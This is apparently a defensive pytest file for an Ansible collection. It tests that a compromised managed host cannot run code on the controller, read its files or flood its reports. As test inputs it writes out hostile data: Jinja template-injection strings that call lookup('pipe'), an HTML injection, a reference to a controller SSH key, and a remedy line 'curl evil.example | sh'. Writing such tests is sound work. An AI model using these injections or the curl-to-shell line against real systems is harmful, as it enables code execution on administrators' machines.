"""A host whose root is somebody else answers what it likes, and nothing of that is done on the controller."""

from __future__ import annotations

import contextlib
import importlib.util
import json
import shlex
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from answering_host import EVIL, played, step_of
from controller import COLLECTION, Plays
from laid_places import HASH, LAID, UNREADABLE, Place

from torchtune_sys.host import trust
from torchtune_sys.render.templates import environment
from two_users import Scene, needs_root


def of_collection(path: str) -> Any:
    """Return a module of the collection's, which is no package here."""
    spec = importlib.util.spec_from_file_location(Path(path).stem, COLLECTION / "plugins" / path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


places = of_collection("module_utils/places.py")
told_of_all = of_collection("plugin_utils/fleet.py")
distrust = places.distrust


def marks(folder: Path) -> list[str]:
    return ["sh", "-c", f"touch {folder}/PWNED"]


@pytest.mark.parametrize("tasks", ["drain", "give_back"])
def test_no_fact_of_a_host_is_a_command_of_the_controller_s(work: Path, tmp_path: Path, tasks: str) -> None:
    """kubectl, named by a fact, was started on the controller."""
    facts = {f"{EVIL}kubectl": marks(tmp_path), f"{EVIL}drain": "kubernetes", f"{EVIL}drain_from": "localhost"}
    found = played(work, tmp_path, tasks, facts)
    assert not (tmp_path / "PWNED").exists()
    assert found.status == 2 and "Either somebody else controls the host" in found.output and f"{EVIL}kubectl" in found.output


def test_no_fact_of_a_host_names_a_file_of_the_controller_s(work: Path, tmp_path: Path) -> None:
    """The source of the tool, named by a fact, was copied to the host: any file that the controller may read; the report's tool was started there."""
    secret = tmp_path / "id_ed25519"
    secret.write_text("of the controller's\n")
    facts = {
        f"{EVIL}source": str(secret),
        f"{EVIL}report_directory": str(tmp_path / "report"),
        f"{EVIL}path": str(tmp_path / "got"),
    }
    for tasks in ("tool", "tell"):
        found = played(work, tmp_path, tasks, facts)
        assert not found.of("evil", "copy") and not found.of("evil", "torchtune_report"), found.output
        assert not (tmp_path / "got").exists() and not (tmp_path / "report").exists()
        assert found.status == 2 and "Either somebody else controls the host" in found.output


def test_no_step_of_a_host_s_names_tasks_of_the_controller_s(work: Path, tmp_path: Path) -> None:
    """The kind of an action was a part of a path: tasks from any file on the controller were included."""
    (tmp_path / "own.yml").write_text(
        json.dumps([{"name": "own", "ansible.builtin.command": {"argv": marks(tmp_path)}, "delegate_to": "localhost"}])
    )
    found = played(work, tmp_path, "install", {})
    assert not (tmp_path / "PWNED").exists() and found.status == 2 and "own.yml" in found.output, (
        "refused: there are no such tasks"
    )


@pytest.mark.parametrize("tasks", ["install", "packages"])
@pytest.mark.parametrize("steps", [[step_of()] * 33, [step_of(*[{"type": "command", "words": ["true"], "root": False}] * 129)]])
def test_a_host_holds_no_play_by_asking_for_very_much(
    work: Path, tmp_path: Path, tasks: str, steps: list[dict[str, Any]]
) -> None:
    """300 steps took more than 400 s of the controller's; 1,000 were let through."""
    found = played(work, tmp_path, tasks, {}, steps, torchtune_sys_applied={"install": steps})
    assert found.status == 2 and "where no installation has more than" in found.output, found.output
    assert not found.of("evil", "command")


def test_what_the_user_sets_is_taken(work: Path, tmp_path: Path) -> None:
    found = played(
        work, tmp_path, "drain", {"distribution": "x"}, torchtune_sys_kubectl=marks(tmp_path), torchtune_sys_drain="kubernetes"
    )
    assert (tmp_path / "PWNED").exists(), found.output


@pytest.mark.sampled(2, 2)
@pytest.mark.parametrize("fails", [True, False], ids=["failing", "answering"])
@pytest.mark.parametrize("tasks", ["report", "install", "apply", "smoke"])
def test_no_answer_of_a_host_is_a_template(work: Path, tmp_path: Path, tasks: str, fails: bool) -> None:
    """Whatever it says, in any key and at any depth; the role puts parts of that together in further variables."""
    evil = f"{{{{ lookup('ansible.builtin.pipe', 'touch {tmp_path}/PWNED') }}}}{{% for x in [lookup('ansible.builtin.pipe', 'touch {tmp_path}/PWNED')] %}}{{% endfor %}}"
    step = {
        "title": evil,
        "wanted": True,
        "reboot": True,
        "by_hand": evil,
        "actions": [{"type": "command", "words": [evil], "root": False}],
    }
    answer = {
        "changed": True,
        "failed": fails,
        **dict.fromkeys(("msg", "stdout", "stderr", "headline", "reason", "exception", "identity", "verdict", "run"), evil),
        **{name: [evil, evil] for name in ("stderr_lines", "stdout_lines", "refused", "rebooted", "warnings", "findings")},
        "waits": {"reboot": [evil], "service": [evil]},
        "changes": [{"key": evil, "state": evil, "disruptive": True}],
        "report": {"host": evil, "results": [{"rule": evil, "title": evil}]},
        "steps": [step],
        "ansible_job_id": evil,
        "finished": 1,
        "ping": "pong",
        "stat": {"exists": True},
        evil: evil,
    }
    place = tmp_path / "python"
    place.write_text(f"#!/bin/sh\ncat >/dev/null\ncat <<'EOF'\n{json.dumps(answer)}\nEOF\n")
    place.chmod(0o755)
    host = {
        "ansible_connection": "local",
        "ansible_python_interpreter": str(place),
        "ansible_remote_tmp": str(tmp_path / "remote"),
    }
    role = {"import_role": {"name": "torchtune.sys.torchtune_sys", "tasks_from": tasks}}
    play = {"hosts": "all", "gather_facts": False, "vars": {"ansible_become_method": "ansible.builtin.su"}, "tasks": [role]}
    shown = [{"debug": {"msg": "{{ [vars | string, hostvars[inventory_hostname] | string] | length }}"}}]
    whole = {
        "torchtune_sys_local_facts": True,
        "torchtune_sys_report_directory": str(tmp_path / "report"),
        "torchtune_sys_reboot": False,
    }
    found = Plays(work, {"evil": host, "worse": host}).play(
        [play, {"hosts": "all", "gather_facts": False, "tasks": shown}], **whole
    )
    assert "lookup(" in found.output, "the host was asked, and what it said is told"
    assert not (tmp_path / "PWNED").exists()


ANSWER: dict[str, Any] = {
    "changed": False,
    "headline": "1 error",
    "user": "root",
    "version": "1",
    "can_train": "cpu",
    "judged": True,
    "status": 0,
    "counts": {"error": 1, "warning": 0, "advice": 0},
    "passed": 3,
    "not_applicable": 2,
    "proof": "",
    "findings": [{"rule": "a-b", "family": "f", "severity": "error", "cause": "c", "title": "t", "evidence": [], "fix": ["do"]}],
    "unknown": [],
    "stat": {"exists": False},
    "ping": "pong",
}


def reported(work: Path, folder: Path, answers: dict[str, dict[str, Any]]) -> tuple[dict[str, Any], str]:
    """The report on hosts that give these answers to the check, and its page."""
    inventory = {}
    for name, answer in answers.items():
        place = folder / name
        place.write_text(f"#!/bin/sh\ncat >/dev/null\ncat <<'EOF'\n{json.dumps(answer)}\nEOF\n")
        place.chmod(0o755)
        inventory[name] = {"ansible_connection": "local", "ansible_python_interpreter": str(place)}
    check = {"torchtune.sys.torchtune_check": {}, "register": "torchtune_sys_checked", "ignore_errors": True}
    report = {"torchtune.sys.torchtune_report": {"directory": str(folder / "report"), "fail": False}, "run_once": True}
    found = Plays(work, inventory).play([{"hosts": "all", "gather_facts": False, "tasks": [check, report]}])
    assert (folder / "report/fleet.json").exists(), found.output
    return json.loads((folder / "report/fleet.json").read_text()), (folder / "report/fleet.md").read_text()


@pytest.mark.sampled(2, 2)
@pytest.mark.parametrize(
    "changed",
    [
        {"can_train": []},
        {"counts": 7},
        {"findings": [{**ANSWER["findings"][0], "severity": "worst"}]},
        {"findings": [{**ANSWER["findings"][0], "rule": ["`<img src=x>"]}]},
        {"unknown": None, "facts": [1]},
        {"user": "u" * 100_000},
    ],
    ids=["word", "number", "severity", "rule", "nothing", "long"],
)
def test_an_answer_that_is_none_of_a_module_s_costs_no_other_host_its_report(
    work: Path, tmp_path: Path, changed: dict[str, Any]
) -> None:
    """The report, which is made of all answers on the controller, ended with an error: nobody's findings were told."""
    document, page = reported(work, tmp_path, {"evil": {**ANSWER, **changed}, "good": ANSWER})
    told = {one["host"]: one for one in document["hosts"]}
    assert told["good"]["state"] == "findings" and told["evil"]["state"] == "failed"
    assert told["evil"]["reason"].startswith("it answered otherwise than the module does")
    assert "<img" not in page


def test_a_host_s_long_words_flood_no_terminal() -> None:
    """Each of a thousand titles was a line of 2 MB."""
    long = {**ANSWER, "findings": [{**ANSWER["findings"][0], "title": "T" * 60_000}]}
    hosts = [told_of_all.host(name, answer, "") for name, answer in (("evil", long), ("good", ANSWER))]
    lines = told_of_all.text(told_of_all.fleet(hosts, ""))
    assert max(map(len, lines)) < 2000 and any("TTT" in line for line in lines)


@pytest.mark.essential
def test_a_host_says_what_is_wrong_of_itself_alone(work: Path, tmp_path: Path) -> None:
    """A finding that several have was told in the words of whichever host came first, its remedy too."""
    fixes = {"evil": "curl evil.example | sh", "good": "do", "well": "do"}
    answers = {name: {**ANSWER, "findings": [{**ANSWER["findings"][0], "fix": [fix]}]} for name, fix in fixes.items()}
    rules = reported(work, tmp_path, answers)[0]["rules"]
    assert {tuple(rule["hosts"]): rule["fix"] for rule in rules} == {("good", "well"): ["do"], ("evil",): [fixes["evil"]]}


def test_a_tool_that_is_older_than_the_collection_is_called_so(work: Path, tmp_path: Path) -> None:
    """It refuses what only a newer one knows, in its own words."""
    tool = tmp_path / "torchtune-sys"
    tool.write_text(f'#!/bin/sh\nexec {Path(sys.executable).with_name("torchtune-sys")} "$@" --new-in-the-next-release\n')
    tool.chmod(0o755)
    here = {"ansible_connection": "local", "ansible_python_interpreter": sys.executable}
    check = {"torchtune.sys.torchtune_check": {"path": str(tool)}}
    found = Plays(work, {"here": here}).play([{"hosts": "here", "gather_facts": False, "tasks": [check]}])
    failure, *_ = found.failed("here")
    assert failure.result["why"] == "refused" and "older than the collection" in failure.result["msg"], failure.result


def of_scripts(asked: str) -> str:
    """Return whose place generated scripts call the part of a path because of which they refuse it."""
    text = environment({}).get_template("script/path.sh.j2").render(system="/usr/sbin:/usr/bin:/sbin:/bin")
    code = f'set -euo pipefail\n{text}\nis_roots "$1"; if ((!ok)); then printf "%s" "${{REPLY}}"; fi'
    return subprocess.run(["bash", "-c", code, "bash", asked], capture_output=True, text=True, check=True, timeout=60).stdout


@pytest.mark.parametrize(
    ("listed", "mark", "said"),
    [
        ("", "", "0"),
        ("", "+", "1, which has an access list that getfacl does not read"),
        ("default:user::rwx\n", "+", "0"),
        ("mask::rwx\nuser:4242:rwx\n", "+", "1"),
    ],
    ids=["none", "NFSv4", "for new files alone", "names a user"],
)
def test_a_list_that_getfacl_does_not_show_is_thought_the_worst_of(listed: str, mark: str, said: str) -> None:
    """The Linux client of NFSv4 offers no POSIX list: getfacl(1) then shows the mode, and an ls(1) that knows such lists marks the file."""
    text = environment({}).get_template("script/path.sh.j2").render(system="/usr/sbin:/usr/bin:/sbin:/bin")
    shown = f"user::rwx\ngroup::rwx\nother::---\n{listed}"
    stubs = f"getfacl() {{ printf %s {shlex.quote(shown)}; }}\nls() {{ printf 'drwxrwx---{mark} 2 0 0 {{}}\\n'; }}\ngetent() {{ return 2; }}"
    code = f'set -euo pipefail\n{text}\n{stubs}\nothers_write / 770 4141 4141 0; printf "%s" "${{ok}}${{REPLY}}"'
    assert subprocess.run(["bash", "-c", code], capture_output=True, text=True, check=True, timeout=60).stdout == said


@needs_root
@pytest.mark.parametrize("made", LAID)
def test_root_starts_no_tool_that_a_user_of_the_host_can_change(scene: Scene, made: str) -> None:
    """A file of theirs with the same content stayed theirs when the role copied the tool over it, and root ran what they made of it afterwards. The modules of
    the collection and the generated scripts, which cannot import the tool, have judges of their own: they say what the tool's says."""
    with contextlib.ExitStack() as closing:
        at = Place(scene.folder / "site", scene.folder / "site" / "tool", scene.alice, closing)
        at.folder.mkdir()
        at.tool.write_text("")
        at.tool.chmod(0o755)
        lay, is_refused = LAID[made]
        found = lay(at)
        asked = str(found if isinstance(found, Path) else at.tool)
        told = distrust(asked), trust.distrust(asked), of_scripts(asked)
    of_tool, of_role, of_script = told
    if not is_refused and made in UNREADABLE and not shutil.which("getfacl"):
        assert of_script.endswith("which has an access list, and no getfacl is here to read it")
        of_script = ""
    assert (bool(of_tool), bool(of_role), bool(of_script)) == (is_refused,) * 3, told


ETC = """
import json, os, sys
sys.path[:0] = json.loads(sys.argv[3])
from test_hostile_host import distrust, of_scripts, trust
tables = {name: open(f"/etc/{name}").read().rstrip("\\n") for name in ("passwd", "group", "gshadow")}
for case in json.loads(sys.argv[2]):
    for name, table in tables.items():
        with open(f"/etc/{name}", "w") as file:
            file.write("\\n".join([table, *case.get(name, ()), ""]))
    os.chown(os.path.dirname(sys.argv[1]), 0, *case.get("of", [77]))
    print(json.dumps([bool(judge(sys.argv[1])) for judge in (trust.distrust, distrust, of_scripts)]))
"""
ROWS: dict[str, tuple[dict[str, list[Any]], bool]] = {
    "a password in /etc/group": ({"group": [f"g:{HASH}:77:"]}, True),
    "a locked one": ({"group": [f"g:!{HASH}:77:"]}, False),
    "a name that is a pattern": ({"group": ["*[a-z]?:x:77:"], "gshadow": ["*[a-z]?:!::"]}, False),
    "a name with a bar": ({"group": ["a|b:x:77:"], "gshadow": [f"a|b:{HASH}::"]}, True),
    "a name that looks like an option": ({"group": ["g:x:77:", "-A:x:77:bob"]}, True),
    "a user's name that looks like one": ({"group": ["g:x:77:"], "passwd": ["-u:x:4711:77::/:/bin/sh"]}, True),
    "a second group of root's name": ({"group": ["root:x:4711:"], "of": [4711]}, True),
    "a second user of root's name, who is in it": ({"passwd": ["root:x:4711:4711::/:/bin/sh"], "group": ["g:x:77:root"]}, True),
    "rows of NIS": ({"group": ["g:x:77:", "+:::"], "passwd": ["+::::::", "+bob::::::"]}, False),
}


@needs_root
def test_rows_that_no_program_of_the_distribution_writes(scene: Scene) -> None:
    """Of names that begin with - or + getent(1) prints no number; a group's password stands in /etc/group where there is no /etc/gshadow."""
    etc, tool = scene.folder / "etc", scene.folder / "site" / "tool"
    shutil.copytree("/etc", etc, symlinks=True)
    tool.parent.mkdir()
    tool.write_text("")
    tool.parent.chmod(0o775)
    inside = 'mount --bind "$0" /etc && exec "$@"'
    words = [sys.executable, "-c", ETC, tool, json.dumps([rows for rows, _ in ROWS.values()]), json.dumps(sys.path)]
    argv = ["unshare", "--mount", "--propagation", "private", "sh", "-c", inside, etc, *words]
    told = subprocess.run(argv, capture_output=True, text=True, check=True).stdout.splitlines()
    assert dict(zip(ROWS, map(json.loads, told), strict=True)) == {row: [refused] * 3 for row, (_, refused) in ROWS.items()}


@needs_root
def test_a_tool_that_another_user_made_first_fails_the_check(work: Path, scene: Scene) -> None:
    tool = scene.alice.write(scene.alice.home / "torchtune-sys", scene.shell_payload(), 0o755)
    subprocess.run([tool], check=True)
    assert scene.who_ran() == {0}, "got in by a plain start"
    host = {"ansible_connection": "local", "ansible_python_interpreter": sys.executable}
    tasks = [{"torchtune.sys.torchtune_check": {"path": str(tool)}}, {"torchtune.sys.torchtune_place": {"place": str(tool)}}]
    found = Plays(work, {"host": host}).play(
        [{"hosts": "all", "gather_facts": False, "tasks": [{**task, "ignore_errors": True} for task in tasks]}]
    )
    told = [found.of("host", module)[0].get("why") for module in ("torchtune_check", "torchtune_place")]
    assert told == ["not-trusted"] * 2, found.output
    assert scene.who_ran() == set()
